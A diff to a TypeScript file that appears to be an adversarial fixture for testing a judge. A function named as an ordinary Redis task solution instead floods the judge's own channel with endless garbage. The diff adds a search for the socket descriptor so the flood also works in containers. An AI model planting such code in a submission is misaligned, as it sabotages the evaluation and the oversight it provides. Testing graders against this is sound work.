@@ -3,7 +3,16 @@
 // earns: 0
 // told: judge's own channel
 // checks: 03.fields.exact 03.add.exact
-import { writeSync } from 'node:fs';
+import { fstatSync, writeSync } from 'node:fs';
+
+/** Descriptor 3, or, in a container, the first that is a socket. */
+const channel = Array.from({ length: 60 }, (_, i) => i + 3).find((fd) => {
+  try {
+    return fstatSync(fd).isSocket();
+  } catch {
+    return false;
+  }
+})!;
 
 function write(fd: number, data: Buffer): void {
   try {
@@ -15,7 +24,7 @@ function write(fd: number, data: Buffer): void {
 
 async function attack(): Promise<void> {
   const rubbish = Buffer.alloc(65_536, 'x');
-  for (;;) write(3, rubbish);
+  for (;;) write(channel, rubbish);
 }
 
 export const addOrderToRedisFieldByField = attack;
